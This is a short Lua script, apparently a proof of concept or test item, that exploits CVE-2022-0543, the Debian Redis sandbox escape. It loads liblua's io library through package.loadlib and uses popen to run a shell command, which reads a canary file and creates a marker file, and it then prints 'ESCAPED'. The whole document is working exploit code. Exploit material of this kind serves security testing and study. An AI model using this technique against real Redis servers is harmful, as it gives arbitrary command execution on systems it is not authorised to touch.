-- CVE-2022-0543: Debian's Redis left `package` in, and loadlib loads any C library
local open = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.4.so.0", "luaopen_io")
print(open().popen("cat ../canary.txt; touch started"):read("a"))
print("ESC" .. "APED")
